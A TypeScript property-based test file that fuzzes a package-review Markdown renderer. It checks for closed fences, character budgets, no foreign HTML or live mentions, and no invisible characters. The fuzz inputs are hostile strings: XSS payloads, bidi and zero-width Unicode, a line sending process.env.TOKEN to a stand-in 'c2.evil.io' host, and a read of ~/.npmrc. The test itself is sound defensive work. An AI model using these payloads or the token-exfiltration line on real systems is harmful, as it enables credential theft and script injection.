/**
 * Property tests over the review renderer: whatever a package contains, the body stays inside its
 * fences and budget, carries no live HTML or mentions, shows invisible characters, and never drops
 * a finding from the summary's counts.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import MarkdownIt from "markdown-it";
import { withLimits } from "../../src/common/limits.js";
import { REVIEW_MARKER, renderMarkdown } from "../../src/render/markdown.js";
import { review, snap } from "../helpers/fixtures.js";

/** Pieces attackers put in package content, mixed with ordinary code. */
const hostilePiece = fc.constantFrom(
  "```",
  "````````",
  "`",
  "~~~",
  "@octocat",
  "@acme/security",
  "#123",
  "<script>alert(1)</script>",
  "</details>",
  "<img src=x onerror=alert(1)>",
  "<!--",
  "-->",
  "|",
  "\u202e",
  "\u2066",
  "\u200b",
  "\u{E0041}\u{E0042}",
  "\ufeff",
  "https://webhook.site/x",
  'fetch("https://c2.evil.io/" + process.env.TOKEN);',
  "[link](javascript:alert(1))",
  // lands in a finding message (secret-access quotes the path it found)
  'read("~/.npmrc<img src=x onerror=alert(1)>@octocat#12");',
  "\n",
  "    ",
);
const content = fc
  .array(fc.oneof(hostilePiece, fc.string({ maxLength: 40 })), { maxLength: 60 })
  .map((parts) => parts.join(""));

const INVISIBLE = /[\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF\u{E0000}-\u{E007F}]/u;
/** Tags the review may produce; anything else in the rendered HTML came from the package. */
const ALLOWED = new Set([
  "details",
  "summary",
  "code",
  "sub",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "h1",
  "h2",
  "h3",
  "p",
  "ul",
  "li",
  "pre",
  "strong",
  "em",
  "s",
  "blockquote",
  "hr",
  "br",
  "a",
]);
// Rendered as GitHub does: CommonMark + tables + strikethrough, raw HTML allowed.
const md = new MarkdownIt({ html: true, linkify: false });

/** Tags in the rendered HTML, and the text that is outside <code>/<pre> (where mentions would be live). */
function inspect(html: string): { tags: string[]; prose: string } {
  const tags = [...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase());
  const prose = html
    .replace(/<pre[\s\S]*?<\/pre>/g, "")
    .replace(/<code[\s\S]*?<\/code>/g, "")
    .replace(/<[^>]*>/g, " ");
  return { tags, prose };
}

describe("renderMarkdown with hostile package content (property)", () => {
  it("keeps fences closed, the budget, no live HTML or mentions, invisibles visible, all findings counted", () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(hostilePiece, content), { minLength: 1, maxLength: 6 }),
        fc.integer({ min: 4_000, max: 60_000 }),
        (files, budget) => {
          // Paths are package content too: they reach the summaries and the findings table.
          const b = Object.fromEntries(
            files.map(([name, text], i) => [`${name.replace(/\n/g, "")}${i}.js`, text]),
          );
          const r = review(snap("1", {}), snap("2", b), { limits: withLimits() });
          const body = renderMarkdown(r, { maxChars: budget });

          assert.ok(body.length <= budget, `body ${body.length} > ${budget}`);
          assert.ok(body.startsWith(REVIEW_MARKER));
          // Every fence that opens closes with the same run.
          const opens = [...body.matchAll(/^(`{3,})diff$/gm)].map((m) => m[1]!);
          for (const fence of opens)
            assert.ok(
              new RegExp(`^${fence}$`, "m").test(body.slice(body.indexOf(`${fence}diff`) + fence.length)),
            );
          // Nothing invisible survives anywhere, fenced or not.
          assert.ok(!INVISIBLE.test(body), "an invisible character reached the body");
          const { tags, prose } = inspect(md.render(body));
          // No HTML but our own; no live mentions or issue links outside code.
          const foreign = tags.filter((t) => !ALLOWED.has(t));
          assert.deepEqual(foreign, [], "raw HTML from the package");
          assert.ok(!/@[A-Za-z0-9]/.test(prose), "a live @mention");
          assert.ok(!/(?<![&\w;])#\d/.test(prose), "a live #123 link");
          // The findings table and its "more" line account for every finding.
          // (one row per place; each finding in it ends with its linked rule, which package text cannot fake:
          // its brackets are escaped).
          const rows = (body.match(/^\| (?:🔴|🟠|🟡|🔵) [a-z]+ \| .*\|$/gmu) ?? []).join("\n");
          const listed = (rows.match(/ · \[[a-z-]+\]\(/g) ?? []).length;
          const more = Number(/_(\d+) more findings not listed/.exec(body)?.[1] ?? 0);
          assert.equal(listed + more, r.findings.length);
        },
      ),
      { numRuns: 150, seed: 20261123 },
    );
  });
});
